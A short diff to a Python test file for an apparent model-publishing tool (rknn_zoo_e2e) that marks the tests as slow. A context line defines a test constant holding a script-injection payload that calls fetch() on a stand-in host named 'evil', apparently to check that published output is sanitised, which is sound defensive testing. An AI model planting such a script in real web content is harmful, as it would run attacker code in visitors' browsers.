@@ -25,6 +25,8 @@ from rknn_zoo_e2e.hub.pull import fetch, pull
 from rknn_zoo_e2e.publishing.plan import Wishes, make_plan
 from rknn_zoo_e2e.publishing.publish import publish
 
+pytestmark = pytest.mark.slow
+
 PLACE = "2.3.2/rk3566/int8"
 SCRIPT = "<script>fetch('//evil')</script>"
 
